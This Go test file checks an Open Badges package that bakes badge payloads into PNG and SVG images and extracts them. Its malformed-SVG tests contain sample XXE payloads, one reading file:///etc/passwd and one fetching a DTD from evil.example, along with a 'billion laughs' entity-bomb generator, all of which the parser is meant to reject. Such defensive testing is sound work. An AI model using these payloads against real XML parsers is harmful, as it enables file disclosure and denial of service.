package bake

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"image"
	"image/png"
	"io"
	"slices"
	"strings"
	"testing"

	"portillon/openbadge/internal/otherstest"
)

const (
	inspector = "1EdTech+digital-credentials-public-validator/inspector-vc/src/test/resources/"
	mozilla   = "mozilla+openbadges-bakery/test/"
	badge     = `{"id": "urn:x:1", "name": "Laser é ]]> & <b>"}`
	token     = "eyJhbGciOiJFZERTQSJ9.eyJpZCI6InVybjp4OjEifQ.c2ln"
	drawn     = `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`
)

// The test extracts the badge from all pictures in the test data of other projects. The table gives for each picture
// how its badge begins, or the reason why the picture has no badge.
func TestPicturesOfOthersAreRead(t *testing.T) {
	for path, want := range map[string]string{
		inspector + "ob30/simple-json.png":              "{  \"@context\"",
		inspector + "ob30/simple-json.svg":              "{\n      \"@context\"",
		inspector + "ob30/simple-jwt.png":               "eyJhbGciOiJSUzI1NiIsImp3",
		inspector + "ob30/simple-jwt.svg":               "eyJhbGciOiJSUzI1NiIsImp3",
		inspector + "ob30/simple-jwt_v1.png":            "eyJhbGciOiJSUzI1NiIsImp3",
		inspector + "ob30/simple-jwt_v1.svg":            "eyJhbGciOiJSUzI1NiIsImp3",
		inspector + "ob20/simple-badge.png":             `{"@context":"https://w3id.org/openbadges/v2"`,
		inspector + "ob20/assets/robotics-badge.png":    "",
		inspector + "ob20/assets/beths-robot-badge.png": "",
		mozilla + "baked.svg": `{"verify":{"url":"http://` +
			`example.org"}}`,
		mozilla + "bad-json.svg": `{verify:`,
		mozilla + "no-json.svg":  "http://example.org",
		mozilla + "unbaked.svg":  "",
		mozilla + "unbaked.png":  "",
		"1EdTech+openbadges-validator-core/tests/testfiles/public_domain_heart.png": "",
		"openbadgefactory+moodle-local_obf/tests/behat/badge.png":                   "",
	} {
		got, format, err := Extract(otherstest.File(t, path))
		if !strings.HasPrefix(string(got), want) || format != path[len(path)-3:] || (err == nil) != (want != "") ||
			err != nil && !errors.Is(err, ErrNone) {
			t.Errorf("%s: %q %s %v, want %s", path, got, format, err, want)
		}
	}
}

// After baking, every picture must contain exactly one badge, the new badge, and must otherwise be unchanged.
func TestBakingChangesOnlyTheBadge(t *testing.T) {
	if testing.Short() {
		t.Skip("short: bakes many badges into pictures")
	}
	pictures := map[string][]byte{
		"plain.png":  plainPNG(t),
		"plain.svg":  []byte(drawn),
		"marked.svg": []byte("\ufeff" + drawn),
	}
	for _, path := range []string{inspector + "ob30/simple-json.png", inspector + "ob30/simple-json.svg",
		inspector + "ob30/simple-jwt.svg",
		inspector + "ob20/simple-badge.png", mozilla + "baked.svg", mozilla + "unbaked.svg", mozilla + "unbaked.png"} {
		pictures[path] = otherstest.File(t, path)
	}
	for name, picture := range pictures {
		for _, payload := range []string{badge, token, "{\r\n\"a\": \"]]]]>\"}\r"} {
			for _, v := range []Version{OB2, OB3} {
				baked, err := Bake(picture, []byte(payload), v)
				if err != nil {
					t.Fatalf("%s: %v", name, err)
				}
				got, _, err := Extract(baked)
				if err != nil || string(got) != strings.TrimSpace(payload) {
					t.Errorf("%s: %q %v, want %q", name, got, err, payload)
				}
				checkOpens(t, name, baked)
				if a, b := withoutBadges(t, picture), withoutBadges(t, baked); !bytes.Equal(a, b) {
					t.Errorf("%s: the picture has changed:\n%q\n%q", name, a, b)
				}
			}
		}
	}
}

// withoutBadges returns the bytes of a picture without its badges.
func withoutBadges(t *testing.T, picture []byte) (rest []byte) {
	t.Helper()
	if Format(picture) == PNG {
		err := eachChunk(picture, func(c chunk) error {
			if _, _, ok := c.keyword(); !ok {
				rest = append(rest, picture[c.start:c.end]...)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return rest
	}
	s, err := readSVG(picture)
	if err != nil {
		t.Fatal(err)
	}
	at := 0
	for _, e := range s.badges {
		rest = append(rest, picture[at:e.start]...)
		at = e.end
	}
	return append(rest, picture[at:]...)
}

// checkOpens checks that Go's image and XML decoders can read the picture.
func checkOpens(t *testing.T, name string, picture []byte) {
	t.Helper()
	if Format(picture) == PNG {
		if _, err := png.Decode(bytes.NewReader(picture)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		return
	}
	d := xml.NewDecoder(bytes.NewReader(picture))
	for {
		if _, err := d.Token(); err == io.EOF {
			return
		} else if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
	}
}

func TestBakingReplacesBadgesOfBothVersions(t *testing.T) {
	for _, picture := range [][]byte{plainPNG(t), []byte(drawn)} {
		baked, before := picture, 0
		for i, v := range []Version{OB2, OB3, OB2, OB2, OB3} {
			var err error
			if baked, err = Bake(baked, []byte(token), v); err != nil {
				t.Fatal(err)
			}
			if n := len(baked); i > 2 && v == OB2 && n != before {
				t.Errorf("%d bytes, and %d when it is baked again", before, n)
			} else if v == OB2 {
				before = n
			}
			if got, _, err := Extract(baked); string(got) != token {
				t.Errorf("%q %v", got, err)
			}
		}
	}
}

func TestInvalidPayloadsAreNotBaked(t *testing.T) {
	for name, payload := range map[string]string{
		"nothing":            "",
		"a text":             "badge",
		"no JSON":            "{",
		"an array":           "[]",
		"two parts":          "a.b",
		"an attribute's end": `a".b.c`,
		"not UTF-8":          "{\"a\":\"\xff\"}",
	} {
		for _, picture := range [][]byte{plainPNG(t), []byte(drawn)} {
			if b, err := Bake(picture, []byte(payload), OB3); err == nil {
				t.Errorf("%s: %q", name, b)
			}
		}
	}
	if _, err := Bake([]byte(drawn), []byte("{\"a\":\"\uffff\"}"), OB3); err == nil {
		t.Error("Bake wrote a character that XML does not allow")
	}
	if _, err := Bake([]byte(drawn), []byte(badge), 0); err == nil {
		t.Error("Bake accepted the zero Version")
	}
	if _, err := Bake([]byte("GIF89a"), []byte(badge), OB3); err == nil {
		t.Error("Bake accepted data that is not a picture")
	}
}

func plainPNG(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 3, 3))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withChunk returns a PNG with an additional chunk after its header chunk.
func withChunk(t testing.TB, picture []byte, kind, data string) []byte {
	t.Helper()
	const header = 8 + 12 + 13
	return slices.Concat(picture[:header], appendChunk(nil, kind, []byte(data)), picture[header:])
}

// the fields before the text of an iTXt chunk: no compression, no language
const plain = "openbadges\x00\x00\x00\x00\x00"

func TestMalformedPNGsAreRejected(t *testing.T) {
	p := plainPNG(t)
	good := withChunk(t, p, "iTXt", plain+badge)
	at := bytes.Index(good, []byte("urn:x:1"))
	change := func(at int, c byte) []byte {
		b := bytes.Clone(good)
		b[at] = c
		return b
	}
	for name, c := range map[string]struct {
		picture []byte
		want    string
	}{
		"as it should be":         {good, ""},
		"an old URL":              {withChunk(t, p, "tEXt", "openbadges\x00https://lab.example/1"), ""},
		"with languages":          {withChunk(t, p, "iTXt", "openbadges\x00\x00\x00fr\x00badges\x00"+badge), ""},
		"another's text beside":   {withChunk(t, good, "iTXt", "Comment\x00\x00\x00\x00\x00{}"), ""},
		"no badge":                {p, "no badge"},
		"a badge by another name": {withChunk(t, p, "iTXt", "OpenBadges\x00\x00\x00\x00\x00{}"), "no badge"},
		"two":                     {withChunk(t, good, "iTXt", plain+badge), "more than one"},
		"two versions":            {withChunk(t, good, "iTXt", "openbadgecredential\x00\x00\x00\x00\x00{}"), "more than one"},
		"two forms":               {withChunk(t, good, "tEXt", "openbadges\x00https://lab.example/1"), "more than one"},
		"two, one compressed":     {withChunk(t, good, "zTXt", "openbadges\x00\x00x"), "more than one"},
		"compressed":              {withChunk(t, p, "iTXt", "openbadges\x00\x01\x00\x00\x00x"), "compressed"},
		"compressed as Latin 1":   {withChunk(t, p, "zTXt", "openbadges\x00\x00x"), "zTXt"},
		"3.0 as Latin 1":          {withChunk(t, p, "tEXt", "openbadgecredential\x00{}"), "tEXt"},
		"empty":                   {withChunk(t, p, "iTXt", plain+" "), "empty"},
		"without flags":           {withChunk(t, p, "iTXt", "openbadges\x00"), "truncated"},
		"without a language":      {withChunk(t, p, "iTXt", "openbadges\x00\x00\x00x"), "truncated"},
		"not UTF-8":               {withChunk(t, p, "iTXt", plain+"{\xff}"), "UTF-8"},
		"a changed byte":          {change(at, 'v'), "CRC"},
		"a chunk of another kind": {change(37, 'x'), "CRC"},
		"a huge length":           {change(33, 0x7f), "needs"},
		"a length beyond 2^31":    {change(33, 0xff), "needs"},
		"cut in a chunk":          {good[:at], "needs"},
		"cut between two":         {good[:33], "truncated"},
		"without an end":          {good[:len(good)-12], "truncated"},
		"something behind":        {append(bytes.Clone(good), "<svg/>"...), "trailing data"},
		"another behind":          {append(bytes.Clone(good), good...), "trailing data"},
		"an end with contents": {
			append(good[:len(good)-12:len(good)-12], appendChunk(nil, "IEND", []byte("x"))...),
			"trailing data",
		},
		"without a header": {
			slices.Concat(p[:8], appendChunk(nil, "iTXt", []byte(plain+badge)), p[8+25:]),
			"IHDR",
		},
		"two headers":                  {withChunk(t, good, "IHDR", string(p[16:29])), "IHDR"},
		"a short header":               {slices.Concat(p[:8], appendChunk(nil, "IHDR", p[16:28]), p[8+25:]), "IHDR"},
		"a kind that is none":          {withChunk(t, good, "i\x00Xt", "x"), "invalid chunk type"},
		"only the first bytes":         {[]byte("\x89PNG"), "signature is missing"},
		"only the signature":           {p[:8], "truncated"},
		"line ends changed in transit": {bytes.Replace(good, []byte("\r\n"), []byte("\n"), 1), "signature is missing"},
		"more than we read":            {append(bytes.Clone(good), make([]byte, MaxBytes)...), "too large"},
	} {
		got, _, err := Extract(c.picture)
		refused(t, name, got, err, c.want)
	}
}

func refused(t *testing.T, name string, got []byte, err error, want string) {
	t.Helper()
	switch {
	case want == "" && (err != nil || len(got) == 0):
		t.Errorf("%s: %q %v", name, got, err)
	case want != "" && (err == nil || got != nil || !strings.Contains(err.Error(), want)):
		t.Errorf("%s: %q, %v, want %s", name, got, err, want)
	}
}

// A chunk that claims to have 2 GB of data must not cause a large allocation.
func TestFalseChunkLengthAllocatesNothing(t *testing.T) {
	p := bytes.Clone(plainPNG(t))
	copy(p[33:], "\x7f\xff\xff\xff")
	if n := testing.AllocsPerRun(10, func() { _, _, _ = Extract(p) }); n > 20 {
		t.Errorf("%.0f allocations", n)
	}
}

const ns = `xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0"`

func TestMalformedSVGsAreRejected(t *testing.T) {
	svg := func(inside string) string { return `<svg ` + ns + `>` + inside + `</svg>` }
	one := `<o:credential><![CDATA[` + badge[:10] + `]]></o:credential>`
	dtd := `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`
	for name, c := range map[string]struct{ picture, want string }{
		"as it should be": {svg(one), ""},
		"another prefix": {
			`<v:svg xmlns:v="http://www.w3.org/2000/svg"><credential xmlns="https://purl.imsglobal.org/ob/v3p0" ` +
				`verify="a.b.c"/></v:svg>`,
			"",
		},
		"escapes in place of CDATA": {svg(`<o:credential>{&quot;a&quot;:1}</o:credential>`), ""},
		"a mark of order":           {"\ufeff" + svg(one), ""},
		"a DTD's name":              {`<?xml version="1.0"?>` + dtd + svg(one), ""},
		"a script":                  {svg(`<script>alert("<![CDATA[<o:credential>]]>")</script>` + one), ""},
		"a URL beside 2.0's JSON": {
			svg(`<b:assertion xmlns:b="http://openbadges.org" verify="https://lab.example/1">{}</b:assertion>`),
			"",
		},
		"no badge": {svg(``), "no badge"},
		"a name without its namespace": {
			svg(`<credential verify="a.b.c"/><openbadges:credential verify="a.b.c"/>`),
			"no badge",
		},
		"3.0's name in 2.0's": {svg(`<credential xmlns="http://openbadges.org" verify="a.b.c"/>`), "no badge"},
		"in a comment":        {svg(`<!--` + one + `-->`), "no badge"},
		"two":                 {svg(one + `<g>` + one + `</g>`), "more than one"},
		"two versions": {
			svg(one + `<assertion xmlns="http://openbadges.org" verify="a.b.c"/>`),
			"more than one",
		},
		"a token beside JSON": {
			svg(`<b:assertion xmlns:b="http://openbadges.org" verify="a.b.c">{}</b:assertion>`),
			"more than one",
		},
		"a URL beside 3.0's JSON": {
			svg(`<o:credential verify="https://lab.example/1">{}</o:credential>`),
			"more than one",
		},
		"two tokens":         {svg(`<o:credential verify="a.b.c" verify="d.e.f"/>`), "more than one"},
		"a badge in a badge": {svg(`<o:credential>{}` + one + `</o:credential>`), "contains elements"},
		"empty":              {svg(`<o:credential> </o:credential>`), "empty"},
		"an entity": {
			`<!DOCTYPE svg [<!ENTITY a "{}">]>` + svg(`<o:credential>&a;</o:credential>`),
			"DOCTYPE",
		},
		"an entity that nobody uses": {`<!DOCTYPE svg [<!ENTITY a "{}">]>` + svg(one), "DOCTYPE"},
		"a file":                     {`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>` + svg(one), "DOCTYPE"},
		"a DTD from elsewhere": {
			`<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>` + svg(one),
			"DOCTYPE",
		},
		"an attribute by default": {
			`<!DOCTYPE svg [<!ATTLIST svg xmlns:o CDATA "https://purl.imsglobal.org/ob/v3p0">]>` + svg(one),
			"DOCTYPE",
		},
		"billions of laughs":       {billionLaughs() + svg(`<o:credential>&i;</o:credential>`), "DOCTYPE"},
		"an entity of nobody":      {svg(`<o:credential>&a;</o:credential>`), "entity"},
		"a DOCTYPE too late":       {svg(dtd + one), "declaration"},
		"two DOCTYPEs":             {dtd + dtd + svg(one), "declaration"},
		"a declaration of its own": {`<!ENTITY a "b">` + svg(one), "declaration"},
		"Latin 1":                  {`<?xml version="1.0" encoding="ISO-8859-1"?>` + svg(one), "encoding"},
		"not UTF-8":                {svg("<title>\xe9</title>" + one), "UTF-8"},
		"a comment not in UTF-8":   {svg("<!--\xe9-->" + one), "UTF-8"},
		"UTF-16":                   {"<\x00s\x00v\x00g\x00", "read"},
		"a page":                   {`<html xmlns="http://www.w3.org/1999/xhtml">` + one + `</html>`, "want svg"},
		"an SVG of no namespace":   {`<svg xmlns:o="https://purl.imsglobal.org/ob/v3p0">` + one + `</svg>`, "want svg"},
		"no end":                   {`<svg ` + ns + `>` + one, "EOF"},
		"two roots":                {svg(one) + svg(``), "trailing data"},
		"text behind":              {svg(one) + "x", "outside"},
		"not closed in order":      {svg(`<g>` + one + `</svg>`), "closed by"},
		"only a comment":           {`<!-- -->`, "empty"},
		"too deep":                 {svg(strings.Repeat("<g>", 100) + one + strings.Repeat("</g>", 100)), "too large"},
		"too many":                 {svg(strings.Repeat("<g/>", maxTokens/2) + one), "too large"},
		"more than we read":        {svg(strings.Repeat(" ", MaxSVG) + one), "too large"},
	} {
		got, _, err := Extract([]byte(c.picture))
		refused(t, name, got, err, c.want)
	}
}

// billionLaughs returns the "billion laughs" entity bomb of XML.
func billionLaughs() string {
	s := `<!DOCTYPE svg [<!ENTITY a "ha">`
	for c := 'b'; c <= 'i'; c++ {
		s += `<!ENTITY ` + string(c) + ` "` + strings.Repeat("&"+string(c-1)+";", 10) + `">`
	}
	return s + `]>`
}

func TestUnreadablePicturesAreNotBaked(t *testing.T) {
	for name, picture := range map[string]string{
		"entities":      `<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"><g/></svg>`,
		"an empty root": `<svg xmlns="http://www.w3.org/2000/svg"/>`,
		"want svg":      `<html/>`,
		"half an SVG":   `<svg xmlns="http://www.w3.org/2000/svg">`,
		"half a PNG":    string(plainPNG(t)[:40]),
	} {
		if b, err := Bake([]byte(picture), []byte(badge), OB3); err == nil {
			t.Errorf("%s: %s", name, b)
		}
	}
}

// Extract must read or reject every picture. After Bake, the picture must contain the badge that was baked.
func FuzzExtract(f *testing.F) {
	p := plainPNG(f)
	f.Add([]byte(drawn))
	f.Add(p)
	f.Add(withChunk(f, p, "iTXt", plain+badge))
	f.Add(withChunk(f, p, "tEXt", "openbadges\x00https://lab.example/1"))
	f.Add([]byte(billionLaughs() + drawn))
	f.Add(
		[]byte(
			`<svg ` + ns + `><o:credential verify=""><![CDATA[{}]]></o:credential><assertion xmlns="http://openbadges.org" ` +
				`verify="a.b.c"/></svg>`,
		),
	)
	f.Fuzz(func(t *testing.T, picture []byte) {
		payload, _, err := Extract(picture)
		if err == nil && len(payload) == 0 {
			t.Fatal("Extract returned an empty badge")
		}
		rebake(t, picture, []byte(badge), err == nil)
	})
}

// rebake bakes the same badge into a picture twice. A second baking of the same badge must change nothing.
func rebake(t *testing.T, picture, payload []byte, good bool) {
	baked, err := Bake(picture, payload, OB3)
	if err != nil {
		if good && !errors.Is(err, ErrTooLarge) {
			t.Fatalf("Extract read the picture, but Bake rejects it: %v", err)
		}
		return
	}
	if got, _, err := Extract(baked); !bytes.Equal(got, payload) {
		t.Fatalf("%q %v in %q", got, err, baked)
	}
	again, err := Bake(baked, payload, OB3)
	if err != nil || !bytes.Equal(again, baked) {
		t.Fatalf("baking twice changes the picture: %v\n%q\n%q", err, baked, again)
	}
}

// Extract must return any payload that Bake accepts unchanged.
func FuzzBake(f *testing.F) {
	p := plainPNG(f)
	for _, s := range []string{badge, token, "{\"a\":\"]]]]>\"}", "{\r\n}", "a.b.c", "{\"\uffff\":0}"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, payload []byte) {
		payload = bytes.TrimSpace(payload)
		for _, picture := range [][]byte{p, []byte(drawn)} {
			if baked, err := Bake(picture, payload, OB2); err == nil {
				if got, _, err := Extract(baked); !bytes.Equal(got, payload) {
					t.Fatalf("%q %v, want %q", got, err, payload)
				}
			} else if json.Valid(payload) && isJSON(payload) && Format(picture) == PNG && bytes.IndexFunc(
				payload,
				func(r rune) bool { return r == 0xfffd },
			) < 0 {
				t.Fatalf("%q: %v", payload, err)
			}
		}
	})
}
